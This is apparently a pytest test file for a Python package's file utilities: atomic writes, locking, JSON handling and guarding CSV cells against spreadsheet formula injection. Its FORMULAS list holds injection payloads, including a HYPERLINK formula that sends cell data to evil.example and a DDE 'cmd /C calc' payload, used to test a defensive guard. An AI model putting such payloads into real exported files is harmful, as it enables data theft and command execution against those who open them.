import csv
import errno
import json
import multiprocessing
import os
import random
import re
import resource
import signal
import threading
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from filelock import SoftFileLock

from retfound_hf.errors import BadDataError, OutputError
from retfound_hf.files import (
    atomic_file,
    atomic_folder,
    exclusive_folder,
    file_lock,
    guard,
    identities,
    move_into,
    read_json,
    read_rows,
    refuse_existing,
    rows_of_csv,
    unguard,
    with_formulas,
    write_json,
    write_table,
)


def names(folder) -> set[str]:
    return {path.name for path in folder.iterdir()}


@pytest.fixture
def umask():
    """Sets the umask for one test."""
    before = os.umask(0)
    yield os.umask
    os.umask(before)


class TestWholeFile:
    def test_appears_on_success(self, tmp_path):
        path = tmp_path / "deep" / "table.csv"
        with atomic_file(path) as partial:
            assert partial.parent == path.parent and partial.suffix == ".csv"
            partial.write_text("new")
            assert not path.exists()
        assert path.read_text() == "new"
        assert names(path.parent) == {"table.csv"}

    @pytest.mark.parametrize("stop", [RuntimeError, KeyboardInterrupt, SystemExit])
    def test_old_content_stays_when_stopped(self, tmp_path, stop):
        path = tmp_path / "table.csv"
        path.write_text("old")
        with pytest.raises(stop), atomic_file(path) as partial:
            partial.write_text("half")
            raise stop
        assert path.read_text() == "old"
        assert names(tmp_path) == {"table.csv"}

    @pytest.mark.parametrize(("mask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
    def test_permissions_follow_the_umask(self, tmp_path, umask, mask, mode):
        umask(mask)
        with atomic_file(tmp_path / "table.csv") as partial:
            partial.write_text("new")
        assert (tmp_path / "table.csv").stat().st_mode & 0o777 == mode


class TestWholeFolder:
    def test_appears_on_success(self, tmp_path):
        path = tmp_path / "deep" / "model"
        with atomic_folder(path) as partial:
            (partial / "a").write_text("new")
            assert not path.exists()
        assert names(path) == {"a"} and names(path.parent) == {"model"}

    @pytest.mark.parametrize("stop", [RuntimeError, KeyboardInterrupt])
    def test_nothing_is_left_when_stopped(self, tmp_path, stop):
        with pytest.raises(stop), atomic_folder(tmp_path / "model") as partial:
            (partial / "a").write_text("half")
            raise stop
        assert names(tmp_path) == set()

    def test_an_empty_folder_is_filled(self, tmp_path):
        (tmp_path / "model").mkdir()
        with atomic_folder(tmp_path / "model") as partial:
            (partial / "a").touch()
        assert names(tmp_path / "model") == {"a"}

    def test_a_full_folder_is_refused_unless_overwriting(self, tmp_path):
        path = tmp_path / "model"
        path.mkdir()
        (path / "old").write_text("mine")
        with pytest.raises(OutputError):
            atomic_folder(path).__enter__()
        assert names(tmp_path) == {"model"} and (path / "old").read_text() == "mine"
        with atomic_folder(path, overwrite=True) as partial:
            (partial / "new").touch()
            assert (path / "old").exists()
        assert names(path) == {"new"} and names(tmp_path) == {"model"}

    def test_a_file_of_the_name_is_refused(self, tmp_path):
        (tmp_path / "model").touch()
        with pytest.raises(OutputError):
            atomic_folder(tmp_path / "model", overwrite=True).__enter__()

    @pytest.mark.parametrize("stop", [RuntimeError, KeyboardInterrupt])
    def test_the_old_folder_stays_when_stopped(self, tmp_path, stop):
        path = tmp_path / "model"
        path.mkdir()
        (path / "old").touch()
        with pytest.raises(stop), atomic_folder(path, overwrite=True):
            raise stop
        assert names(path) == {"old"} and names(tmp_path) == {"model"}

    def test_the_old_folder_comes_back_when_the_last_move_is_stopped(self, tmp_path, monkeypatch):
        path = tmp_path / "model"
        path.mkdir()
        (path / "old").touch()
        move, calls = os.replace, []

        def second_fails(source, target):
            calls.append(source)
            if len(calls) == 2:
                raise KeyboardInterrupt
            move(source, target)

        monkeypatch.setattr(os, "replace", second_fails)
        with pytest.raises(KeyboardInterrupt), atomic_folder(path, overwrite=True) as partial:
            (partial / "new").touch()
        assert names(path) == {"old"} and names(tmp_path) == {"model"}

    def test_a_link_keeps_pointing_at_the_folder(self, tmp_path):
        (tmp_path / "disk").mkdir()
        (tmp_path / "model").symlink_to(tmp_path / "disk")
        with atomic_folder(tmp_path / "model", overwrite=True) as partial:
            (partial / "new").touch()
        assert (tmp_path / "model").is_symlink() and names(tmp_path / "disk") == {"new"}

    def test_permissions_follow_the_umask(self, tmp_path, umask):
        umask(0o027)
        with atomic_folder(tmp_path / "model"):
            pass
        assert (tmp_path / "model").stat().st_mode & 0o777 == 0o750


def test_move_into_adds_to_a_folder_with_the_configuration_last(tmp_path, monkeypatch):
    (tmp_path / "kept").write_text("old")
    order, move = [], os.replace
    monkeypatch.setattr(os, "replace", lambda source, target: order.append(target.name) or move(source, target))
    with move_into(tmp_path) as partial:
        for name in ("config.json", "model.safetensors", "README.md"):
            (partial / name).write_text("new")
        assert not (tmp_path / "config.json").exists()
    assert names(tmp_path) == {"kept", "config.json", "model.safetensors", "README.md"}
    assert order[-1] == "config.json"


def test_move_into_adds_nothing_when_stopped(tmp_path):
    with pytest.raises(KeyboardInterrupt), move_into(tmp_path) as partial:
        (partial / "config.json").write_text("half")
        raise KeyboardInterrupt
    assert names(tmp_path) == set()


FORK = multiprocessing.get_context("fork")  # a real process, without the seconds of importing torch anew


def write_and_sleep(kind: str, path: Path, began) -> None:
    with atomic_file(path) if kind == "file" else atomic_folder(path, overwrite=True) as partial:
        (partial if kind == "file" else partial / "content").write_text("half")
        began.set()
        time.sleep(60)


@pytest.mark.parametrize("kind", ["file", "folder"])
def test_old_content_survives_a_kill(kind, tmp_path):
    path = tmp_path / "output"
    content = path if kind == "file" else path / "content"
    content.parent.mkdir(exist_ok=True)
    content.write_text("old")
    began = FORK.Event()
    process = FORK.Process(target=write_and_sleep, args=(kind, path, began))
    process.start()
    assert began.wait(timeout=30)
    process.kill()
    process.join(timeout=30)
    assert process.exitcode == -signal.SIGKILL
    assert content.read_text() == "old"


class TestWriteJson:
    def test_writes_what_json_reads(self, tmp_path):
        value = {"auroc": 0.5, "auprc": None, "auroc_ci95": [0.1, 0.9], "name": "é"}
        write_json(tmp_path / "metrics.json", value)
        text = (tmp_path / "metrics.json").read_text(encoding="utf-8")
        assert json.loads(text) == value and text.endswith("}\n")

    @pytest.mark.parametrize("number", [float("nan"), float("inf")])
    def test_refuses_numbers_that_json_has_not(self, tmp_path, number):
        write_json(tmp_path / "metrics.json", {"auroc": 1})
        with pytest.raises(ValueError):
            write_json(tmp_path / "metrics.json", {"auroc": number})
        assert json.loads((tmp_path / "metrics.json").read_text()) == {"auroc": 1}
        assert names(tmp_path) == {"metrics.json"}


def test_readers_never_see_a_half_written_file(tmp_path):
    path = tmp_path / "metrics.json"
    write_json(path, list(range(2000)))
    writer = threading.Thread(target=lambda: [write_json(path, list(range(2000))) for _ in range(100)])
    writer.start()
    reads = 0
    while writer.is_alive():
        assert len(json.loads(path.read_text())) == 2000
        reads += 1
    writer.join()
    assert reads > 10


def make_if_absent(path: Path, name: str, made) -> None:
    with file_lock(path):
        if not path.exists():
            time.sleep(0.3)
            path.write_text(name)
            made.put(name)


def test_one_process_at_a_time_makes_a_file(tmp_path):
    path, made = tmp_path / "deep" / "made.txt", FORK.Queue()
    started = [FORK.Process(target=make_if_absent, args=(path, name, made)) for name in "ab"]
    for process in started:
        process.start()
    for process in started:
        process.join(timeout=60)
        assert process.exitcode == 0
    assert made.get(timeout=10) == path.read_text() and made.empty()
    assert [found.name for found in path.parent.iterdir()] == ["made.txt"]


class TestFaults:
    @pytest.fixture
    def file(self, tmp_path):
        (tmp_path / "file").write_text("kept")
        return tmp_path / "file"

    @pytest.mark.parametrize("place", ["file", "file/out", "file/deep/out", "n" * 300, "眼" * 90, "/proc/out"])
    def test_a_place_that_cannot_be_written_is_refused_before_the_block(self, file, place):
        path = file.parent / place
        for claim in (lambda: refuse_existing(path), lambda: atomic_folder(path).__enter__()):
            with pytest.raises(OutputError) as error:
                claim()
            assert error.value.path == path
        if place != "file":
            with pytest.raises(OutputError), exclusive_folder(path):
                raise AssertionError
            with pytest.raises(OutputError), atomic_file(path):
                raise AssertionError
        assert names(file.parent) == {"file"} and file.read_text() == "kept"

    @pytest.mark.parametrize("writer", ["json", "table", "numpy", "zip", "torch", "safetensors", "pickle"])
    def test_a_disk_that_ends_in_the_middle_is_one_line(self, tmp_path, writer):
        """A limit of the size of files stands for a full disk: both end a write half-way."""
        path, said = tmp_path / "out", FORK.Queue()
        path.write_text("old")
        process = FORK.Process(target=write_beyond_the_limit, args=(path, writer, said))
        process.start()
        kind, message = said.get(timeout=60)
        process.join(timeout=60)
        assert kind == "OutputError" and str(path) in message and "\n" not in message
        assert names(tmp_path) == {"out"} and path.read_text() == "old"

    @pytest.mark.parametrize("number", [errno.ENOSPC, errno.EROFS, errno.EDQUOT])
    def test_full_and_read_only_disks_name_the_place(self, tmp_path, number):
        with pytest.raises(OutputError) as error, atomic_folder(tmp_path / "out"):
            raise OSError(number, os.strerror(number), str(tmp_path / "elsewhere"))
        assert (error.value.path, error.value.reason) == (tmp_path / "elsewhere", os.strerror(number))
        assert list(tmp_path.iterdir()) == []

    @pytest.mark.parametrize(
        "error", [KeyError("a"), FileNotFoundError(2, "x", "/images/a.png"), OSError("truncated")]
    )
    def test_other_errors_stay_what_they_are(self, tmp_path, error):
        with pytest.raises(type(error)) as found, exclusive_folder(tmp_path / "out"), atomic_file(tmp_path / "out/a"):
            raise error
        assert found.value is error

    def test_names_that_leave_no_room_for_more(self, tmp_path):
        """A file, a folder and a lock beside names of 255 bytes, which file systems accept."""
        folder = tmp_path / ("眼" * 85)
        with exclusive_folder(folder), atomic_folder(folder) as partial, atomic_file(partial / ("患" * 85)) as file:
            file.write_text("")
        assert names(tmp_path) == {"眼" * 85}

    def test_what_another_run_has_written_meanwhile_stays(self, tmp_path):
        with pytest.raises(OutputError), atomic_folder(tmp_path / "out") as partial:
            (partial / "mine").touch()
            (tmp_path / "out").mkdir()
            (tmp_path / "out" / "theirs").touch()
        assert names(tmp_path) == {"out"} and names(tmp_path / "out") == {"theirs"}

    @pytest.mark.parametrize("marker", ["71\nnode9\n", "filelock/2\nmode=exclusive\npid=71\nhost=node9\n"])
    def test_a_lock_that_is_a_mere_file_says_whose_it_is(self, tmp_path, monkeypatch, marker):
        """As on disks without locks, where such a file outlives a machine that was switched off."""
        monkeypatch.setattr("retfound_hf.files.PATIENCE", 0.2)
        monkeypatch.setattr("filelock.FileLock", SoftFileLock)
        lock = tmp_path / ".out.lock"
        lock.write_text(marker)
        with pytest.raises(OutputError) as error, exclusive_folder(tmp_path / "out"):
            pass
        assert all(word in str(error.value) for word in ("node9", "71", str(lock)))
        lock.unlink()
        with exclusive_folder(tmp_path / "out"):
            assert lock.exists()
        assert not lock.exists()

    def test_who_waits_for_a_file_says_so(self, tmp_path, monkeypatch, caplog):
        monkeypatch.setattr("retfound_hf.files.PATIENCE", 0.1)
        monkeypatch.setattr("filelock.FileLock", SoftFileLock)
        lock = tmp_path / ".made.lock"
        lock.write_text("71\nnode9\n")
        threading.Timer(0.5, lock.unlink).start()
        with file_lock(tmp_path / "made"):
            pass
        assert "node9" in caplog.text and str(lock) in caplog.text


def write_beyond_the_limit(path: Path, writer: str, said) -> None:
    import torch
    from safetensors.torch import save_file

    numbers = np.zeros(100_000)
    write = {
        "json": lambda: write_json(path, list(range(20_000))),
        "table": lambda: write_table(path, pd.DataFrame({"id": range(20_000)})),
        "numpy": lambda partial: np.save(partial, numbers),
        "zip": lambda partial: np.savez(partial, numbers),
        "torch": lambda partial: torch.save(torch.zeros(100_000), partial),
        "safetensors": lambda partial: save_file({"a": torch.zeros(100_000)}, partial),
        "pickle": lambda partial: pd.DataFrame({"a": numbers}).to_pickle(partial),
    }[writer]
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, resource.RLIM_INFINITY))
    try:
        if writer in ("json", "table"):
            write()
        else:
            with atomic_file(path) as partial, open(partial, "wb") as file:
                write(partial if writer == "safetensors" else file)
    except Exception as error:
        said.put((type(error).__name__, str(error)))


def hold(folder: Path, began) -> None:
    with exclusive_folder(folder):
        began.set()
        time.sleep(600)


def test_a_folder_has_one_writer_until_it_ends(tmp_path, monkeypatch):
    monkeypatch.setattr("retfound_hf.files.PATIENCE", 0.2)
    folder, began = tmp_path / "out", FORK.Event()
    other = FORK.Process(target=hold, args=(folder, began))
    other.start()
    assert began.wait(timeout=30)
    with pytest.raises(OutputError), exclusive_folder(folder):
        pass
    other.kill()
    other.join(timeout=30)
    with exclusive_folder(folder):
        pass
    assert list(tmp_path.iterdir()) == []


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&B2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+2", "-x", "\t=1", "\r=1",
    " =1", "＝1", "a;=1+1", "a;b;@x", "a\n-1", "'=1", "''-1", ";=", "\t",
]  # fmt: skip
ORDINARY = ["eye.png", "a/b-c+d=e@f.jpg", "'quoted'", "o'neil", "a;b", "眼底", "", "007", "a\nb", "it's -1", "{=1}"]


class TestTables:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_no_cell_is_computed_whatever_ends_one(self, text):
        for cell in re.split("[;\t\r\n]", guard(text)):
            assert not re.match("\\s*[=+@＝＋－＠-]", cell)
        assert guard(text) != text and unguard(guard(text)) == text

    @pytest.mark.parametrize("text", ORDINARY)
    def test_ordinary_names_stay(self, text):
        assert guard(text) == unguard(text) == text

    def test_any_text_comes_back(self):
        letters = random.Random(0)
        for _ in range(20000):
            text = "".join(letters.choices("'=+-@ \t\r\n;ax＝\xa0", k=letters.randrange(9)))
            assert unguard(guard(text)) == text

    def test_names_come_back_from_the_file_and_numbers_stay(self, tmp_path):
        names = FORMULAS + ORDINARY
        table = pd.DataFrame({"id": names, "=group": pd.Categorical(names), "value": range(len(names)), "true": True})
        table["value"] = -table["value"] / 3
        write_table(tmp_path / "table.csv", table)
        with open(tmp_path / "table.csv", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or re.match("-[^0-9]", cell)]
        again = with_formulas(pd.read_csv(tmp_path / "table.csv", dtype={"id": str}, keep_default_na=False))
        assert list(again) == list(table) and again["id"].tolist() == names
        assert again["value"].tolist() == table["value"].tolist() and again["true"].all()
        assert [row["=group"] for row in read_rows(tmp_path / "table.csv")] == names

    def test_rows_that_are_written_one_by_one(self, tmp_path):
        with rows_of_csv(tmp_path / "rejected.csv", ("id", "reason")) as write:
            write(("=1+1", "cut short"))
            write(("a\rb", 3))
        rows = [{"id": "=1+1", "reason": "cut short"}, {"id": "a\rb", "reason": "3"}]
        assert read_rows(tmp_path / "rejected.csv") == rows
        assert "\n'=1+1,cut short\n" in (tmp_path / "rejected.csv").read_text()


def test_identities_of_a_folder(tmp_path):
    (tmp_path / "folder").mkdir()
    (tmp_path / "notes.txt").write_text("one")
    before = identities(tmp_path)
    assert [path for path, _, _ in before] == [str(tmp_path / "notes.txt")]
    (tmp_path / "notes.txt").write_text("another")
    assert identities(tmp_path) != before
    assert identities(tmp_path / "absent") == []


@pytest.mark.parametrize("content", [b"", b'{"position": {"st', b"[1]", b"\xff\xfe", b'{"a":' * 100_000])
def test_json_that_cannot_be_read_is_said_in_one_line(tmp_path, content):
    path = tmp_path / "state.json"
    path.write_bytes(content)
    with pytest.raises(BadDataError) as error:
        read_json(path, absent={})
    assert error.value.source == str(path) and "\n" not in str(error.value)


def test_json_that_may_be_absent(tmp_path):
    assert read_json(tmp_path / "state.json", absent={"a": 1}) == {"a": 1}
    with pytest.raises(BadDataError):
        read_json(tmp_path / "state.json")
    write_json(tmp_path / "state.json", [1, 2])
    assert read_json(tmp_path / "state.json", list) == [1, 2]
